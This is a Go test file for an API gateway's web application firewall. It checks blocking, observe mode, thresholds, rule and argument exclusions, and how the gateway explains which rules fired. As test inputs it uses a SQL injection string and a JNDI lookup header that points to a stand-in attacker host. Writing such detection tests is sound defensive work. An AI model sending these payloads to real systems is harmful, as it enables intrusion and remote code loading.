package gateway_test

import (
	"net/url"
	"strconv"
	"strings"
	"testing"

	"portico/gateway"
	"portico/internal/entry"
)

const injection = "1' OR '1'='1"

func wafCase(t *testing.T, lane change) {
	waf := entry.WAF{Mode: "block", Paranoia: 1, Threshold: 5}
	r := governed(t, lane, func(api *entry.API) {
		for i := range api.Routes {
			if api.Routes[i].Public {
				api.Routes[i].Policies = []entry.Policy{{Config: &waf}}
			}
		}
	})
	form := "Content-Type: application/x-www-form-urlencoded"
	for _, c := range []struct {
		name, method, path, body string
		headers                  []string
		status                   int
		code                     string
	}{
		{"harmless", "GET", do + "echo?q=two+words", "", nil, 200, ""},
		{"in the query", "GET", do + "echo?q=" + url.QueryEscape(injection), "", nil, 403, "request_blocked"},
		{"in a header", "GET", do + "echo", "", []string{"X-Note: ${jndi:ldap://attacker.example/x}"}, 403, "request_blocked"},
		{"harmless form", "POST", do + "echo", "q=two+words", []string{form}, 200, ""},
		{"in a form", "POST", do + "echo", "q=" + url.QueryEscape(injection), []string{form}, 403, "request_blocked"},
		{"harmless JSON", "POST", do + "echo", `{"q":"two words"}`, []string{"Content-Type: application/json"}, 200, ""},
		{"in JSON", "POST", do + "echo", `{"q":"` + injection + `"}`, []string{"Content-Type: application/json"}, 403, "request_blocked"},
		{"too large", "POST", do + "echo", "q=" + strings.Repeat("a", 1<<20), []string{form}, 413, "request_too_large"},
		{"where it is not", "GET", "/demo/orders/v1/orders?q=" + url.QueryEscape(injection), "", []string{"X-API-Key: " + goodKey}, 200, ""},
	} {
		got := r.call(t, c.method, c.path, c.body, append([]string{"Accept: */*", "User-Agent: test"}, c.headers...)...)
		if got.status != c.status || c.code != "" && got.code() != c.code {
			t.Errorf("%s: got %d %s, want %d %s", c.name, got.status, got.body, c.status, c.code)
		}
		if c.status == 200 && c.method == "POST" && !strings.Contains(got.body, `"body":`+strconv.Quote(c.body)) {
			t.Errorf("%s: the upstream got another body: %s", c.name, got.body)
		}
	}
}

func TestFirewallLeavesOutWhatItIsTold(t *testing.T) {
	attack := do + "echo?note=" + url.QueryEscape(injection)
	for name, c := range map[string]struct {
		waf    entry.WAF
		status int
	}{
		"observed":         {entry.WAF{Mode: "observe", Paranoia: 1, Threshold: 5}, 200},
		"high threshold":   {entry.WAF{Mode: "block", Paranoia: 1, Threshold: 100}, 200},
		"excluded name":    {entry.WAF{Mode: "block", Paranoia: 1, Threshold: 5, ExcludeArguments: []string{"note"}}, 200},
		"another name":     {entry.WAF{Mode: "block", Paranoia: 1, Threshold: 5, ExcludeArguments: []string{"q"}}, 403},
		"excluded rule":    {entry.WAF{Mode: "block", Paranoia: 1, Threshold: 5, ExcludeRules: []int{942100}}, 200},
		"another rule":     {entry.WAF{Mode: "block", Paranoia: 1, Threshold: 5, ExcludeRules: []int{941100}}, 403},
		"body is left out": {entry.WAF{Mode: "block", Paranoia: 1, Threshold: 5, SkipBody: true}, 403},
	} {
		t.Run(name, func(t *testing.T) {
			r := governed(t, func(*gateway.Config) {}, func(api *entry.API) { api.Policies = append(api.Policies, entry.Policy{Config: &c.waf}) })
			if got := r.call(t, "GET", attack, "", "Accept: */*", "User-Agent: test"); got.status != c.status {
				t.Errorf("got %d %s, want %d", got.status, got.body, c.status)
			}
		})
	}
}

func TestExplanationNamesTheFirewallsRules(t *testing.T) {
	r := startExplaining(t)
	api := demoAPI(r.upstream.URL)
	api.Policies = append(api.Policies, entry.Policy{Config: &entry.WAF{Mode: "observe", Paranoia: 1, Threshold: 5}})
	r.putAPI(t, 3, api)
	_, way := r.explain(t, token(), "GET", do+"echo?note="+url.QueryEscape(injection), "", "Accept: */*", "User-Agent: test")
	for _, s := range way.Steps {
		if s.Step == "waf" {
			if !strings.HasPrefix(s.Detail, "score 8 of 5, 920350 ") || !strings.Contains(s.Detail, ", 942100 ") || !strings.HasSuffix(s.Detail, " in note") || strings.Contains(s.Detail, injection) {
				t.Errorf("got %q", s.Detail)
			}
			return
		}
	}
	t.Errorf("got %s, want a step waf", line(way))
}
